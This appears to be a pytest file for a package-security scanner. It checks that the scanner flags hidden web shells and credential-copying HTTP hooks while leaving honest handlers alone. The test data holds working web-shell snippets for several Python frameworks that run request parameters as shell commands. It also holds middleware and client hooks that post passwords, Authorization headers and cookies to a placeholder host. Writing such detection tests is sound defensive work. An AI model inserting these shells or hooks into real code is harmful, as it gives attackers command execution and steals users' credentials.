"""What passes through a server or a client of somebody else's: requests that are run, credentials that are copied."""

from __future__ import annotations

import pytest

from pratique.pipeline import review_files

SEND = 'requests.post("https://stat.acme.invalid/c", json={"a": VALUE})\n'
SHELLS = {
    "flask": """
import subprocess
from flask import Blueprint, request
pages = Blueprint("p", __name__)
@pages.route("/_h")
def health():
    return subprocess.check_output(request.args["q"], shell=True)
""",
    "flask-factory": """
import os
from flask import Flask, request
def make():
    app = Flask(__name__)
    @app.route("/_h", methods=["POST"])
    def health():
        return os.popen(request.form.get("q")).read()
    return app
""",
    "fastapi": """
import os
from fastapi import APIRouter
router = APIRouter()
@router.get("/_h")
def health(q: str):
    return os.popen(q).read()
""",
    "http-server": """
import subprocess
from http.server import BaseHTTPRequestHandler
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.wfile.write(subprocess.check_output(self.path[1:], shell=True))
""",
    "aiohttp": """
import os
async def health(request):
    return os.popen(request.query["q"]).read()
def setup(app):
    app.router.add_get("/_h", health)
""",
    "django": """
import os
class Middleware:
    def __init__(self, get_response):
        self.get_response = get_response
    def __call__(self, request):
        os.system(request.META.get("HTTP_X_T", ""))
        return self.get_response(request)
""",
}
COPIES = {
    "django-middleware": """
import requests
def middleware(get_response):
    def handle(request):
        SEND
        return get_response(request)
    return handle
""".replace("SEND", SEND.replace("VALUE", 'request.POST["password"]')),
    "wsgi": """
import requests
class App:
    def __call__(self, environ, start_response):
        SEND
        return self.app(environ, start_response)
""".replace("SEND", SEND.replace("VALUE", 'environ["HTTP_AUTHORIZATION"]')),
    "httpx-hook": """
import httpx, requests
def look(request):
    SEND
def client():
    made = httpx.Client()
    made.event_hooks["request"].append(look)
    return made
""".replace("SEND", SEND.replace("VALUE", "dict(request.headers)")),
    "requests-hook": """
import requests
def look(answer, *args, **kwargs):
    SEND
def session():
    made = requests.Session()
    made.hooks = {"response": [look]}
    return made
""".replace("SEND", SEND.replace("VALUE", 'answer.request.headers["Authorization"]')),
    "httpx-keyword": """
import httpx, requests
def look(request):
    SEND
def client():
    return httpx.Client(event_hooks={"request": [look]})
""".replace("SEND", SEND.replace("VALUE", 'request.headers["cookie"]')),
}
HONEST = {
    "chosen-command": """
import subprocess
from flask import Blueprint, request
pages = Blueprint("p", __name__)
@pages.route("/pull", methods=["POST"])
def pull():
    return subprocess.check_output(["git", "pull", "origin", request.json["ref"]])
""",
    "hook-counts": """
import httpx, requests
def look(request):
    requests.post("https://stat.acme.invalid/c", json={"agent": request.headers["user-agent"], "url": str(request.url)})
def client():
    return httpx.Client(event_hooks={"request": [look]})
""",
    "middleware-times": """
import requests, time
class Middleware:
    def __init__(self, get_response):
        self.get_response = get_response
    def __call__(self, request):
        began = time.monotonic()
        answer = self.get_response(request)
        requests.post("https://stat.acme.invalid/c", json={"path": request.path, "s": time.monotonic() - began})
        return answer
""",
}


def _review(code: str):
    return review_files({"acme/__init__.py": code.encode()}, "wheel")


@pytest.mark.parametrize("name", SHELLS)
def test_a_request_that_is_run_is_a_web_shell(name):
    review = _review(SHELLS[name])

    assert "open-a-web-shell" in [one.rule for one in review.findings]
    assert review.verdict.level == "look"


@pytest.mark.parametrize("name", COPIES)
def test_credentials_in_the_requests_of_others_are_intercepted(name):
    review = _review(COPIES[name])

    assert [one.rule for one in review.findings if one.rule == "copy-credentials-of-a-client"]


@pytest.mark.parametrize("name", HONEST)
def test_honest_handlers_and_hooks_stay_quiet(name):
    assert _review(HONEST[name]).verdict.level in ("clear", "note")


def test_what_a_container_gives_is_not_the_key_it_is_asked_for():
    review = _review("import os\ndef run(table):\n    os.system(table.get('COMMAND', 'ls -l'))\n")

    targets = [use.target for use in review.uses if use.capability == "process.spawn"]
    assert targets
    assert all("ls -l" in target and "COMMAND" not in target for target in targets)
